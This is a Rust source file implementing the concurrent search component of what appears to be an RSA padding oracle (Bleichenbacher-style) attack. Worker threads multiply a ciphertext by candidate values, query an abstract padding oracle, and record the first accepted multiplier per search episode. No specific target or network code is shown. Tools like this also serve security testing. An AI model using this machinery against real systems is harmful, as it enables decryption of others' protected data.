//! The parallel multiplier evaluators: a fixed set of worker threads racing
//! to find a multiplier the oracle accepts, and the collector that records
//! the first hit of the active search episode.

use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::mpsc::{sync_channel, Receiver, SyncSender};
use std::sync::{Arc, Mutex};
use std::thread::{self, JoinHandle};

use num_bigint::BigInt;

use crate::oracle::PaddingOracle;

/// Submissions block once this many tasks are waiting; workers drain
/// continuously so the engine never wedges on a full queue.
pub const TASK_QUEUE_DEPTH: usize = 100;

/// One candidate multiplier to evaluate: compute `c·sᵉ mod n` and ask the
/// oracle about it.
#[derive(Debug, Clone)]
pub struct MultiplierTask {
    pub episode: u64,
    pub c: BigInt,
    pub s: BigInt,
    pub iteration: u64,
}

enum TaskMsg {
    Evaluate(MultiplierTask),
    Shutdown,
}

/// A successful oracle hit. Workers never report rejections.
#[derive(Debug, Clone)]
pub struct AcceptedMultiplier {
    pub episode: u64,
    pub s: BigInt,
    pub iteration: u64,
}

enum ResultMsg {
    Accepted(AcceptedMultiplier),
    Shutdown,
}

#[derive(Default)]
struct EpisodeState {
    episode: AtomicU64,
    searching: AtomicBool,
    winner: Mutex<Option<AcceptedMultiplier>>,
}

/// Worker threads plus the result collector, shared between search
/// episodes of one attack run.
pub struct MultiplierPool {
    tasks: SyncSender<TaskMsg>,
    results: SyncSender<ResultMsg>,
    workers: Vec<JoinHandle<()>>,
    collector: Option<JoinHandle<()>>,
    state: Arc<EpisodeState>,
}

impl MultiplierPool {
    pub fn spawn(n: &BigInt, e: &BigInt, oracle: Arc<dyn PaddingOracle>, size: usize) -> Self {
        let (tasks, task_source) = sync_channel::<TaskMsg>(TASK_QUEUE_DEPTH);
        let task_source = Arc::new(Mutex::new(task_source));
        let (results, result_sink) = sync_channel::<ResultMsg>(1);
        let state = Arc::new(EpisodeState::default());

        let workers = (0..size)
            .map(|_| {
                let task_source = Arc::clone(&task_source);
                let results = results.clone();
                let n = n.clone();
                let e = e.clone();
                let oracle = Arc::clone(&oracle);
                thread::spawn(move || worker_loop(&task_source, &results, &n, &e, &*oracle))
            })
            .collect();

        let collector = {
            let state = Arc::clone(&state);
            thread::spawn(move || collector_loop(&result_sink, &state))
        };

        Self {
            tasks,
            results,
            workers,
            collector: Some(collector),
            state,
        }
    }

    /// Opens a new search episode. Results still in flight from earlier
    /// episodes carry a stale id and are discarded by the collector.
    pub fn begin_episode(&self) -> u64 {
        let episode = self.state.episode.fetch_add(1, Ordering::SeqCst) + 1;
        *self.state.winner.lock().unwrap() = None;
        self.state.searching.store(true, Ordering::SeqCst);
        episode
    }

    /// False as soon as the collector has recorded a hit.
    pub fn searching(&self) -> bool {
        self.state.searching.load(Ordering::SeqCst)
    }

    /// Hands a task to the workers, blocking while the queue is full.
    pub fn submit(&self, task: MultiplierTask) {
        let _ = self.tasks.send(TaskMsg::Evaluate(task));
    }

    /// Ends the active episode without waiting for a hit.
    pub fn cancel_episode(&self) {
        self.state.searching.store(false, Ordering::SeqCst);
    }

    /// The first accepted multiplier of the given episode, if any arrived.
    pub fn winner(&self, episode: u64) -> Option<AcceptedMultiplier> {
        let winner = self.state.winner.lock().unwrap();
        winner.clone().filter(|hit| hit.episode == episode)
    }
}

impl Drop for MultiplierPool {
    /// One sentinel per worker, join them, then take the collector down.
    /// A worker finishes at most one in-flight oracle call before it sees
    /// its sentinel; the collector keeps draining until the workers are
    /// gone, so a worker blocked on the result queue cannot deadlock.
    fn drop(&mut self) {
        for _ in &self.workers {
            let _ = self.tasks.send(TaskMsg::Shutdown);
        }
        for worker in self.workers.drain(..) {
            let _ = worker.join();
        }
        let _ = self.results.send(ResultMsg::Shutdown);
        if let Some(collector) = self.collector.take() {
            let _ = collector.join();
        }
    }
}

fn worker_loop(
    tasks: &Mutex<Receiver<TaskMsg>>,
    results: &SyncSender<ResultMsg>,
    n: &BigInt,
    e: &BigInt,
    oracle: &dyn PaddingOracle,
) {
    loop {
        let message = tasks.lock().unwrap().recv();
        let task = match message {
            Ok(TaskMsg::Evaluate(task)) => task,
            Ok(TaskMsg::Shutdown) | Err(_) => break,
        };
        let c_prime = (&task.c * task.s.modpow(e, n)) % n;
        // A transport failure counts as non-conforming
        if let Ok(true) = oracle.query(&c_prime) {
            let hit = AcceptedMultiplier {
                episode: task.episode,
                s: task.s,
                iteration: task.iteration,
            };
            if results.send(ResultMsg::Accepted(hit)).is_err() {
                break;
            }
        }
    }
}

fn collector_loop(results: &Receiver<ResultMsg>, state: &EpisodeState) {
    while let Ok(message) = results.recv() {
        let hit = match message {
            ResultMsg::Accepted(hit) => hit,
            ResultMsg::Shutdown => break,
        };
        if hit.episode != state.episode.load(Ordering::SeqCst) {
            continue;
        }
        let mut winner = state.winner.lock().unwrap();
        // First acceptance wins; later hits of the same episode lose the race
        if state.searching.load(Ordering::SeqCst) && winner.is_none() {
            *winner = Some(hit);
            state.searching.store(false, Ordering::SeqCst);
        }
    }
}
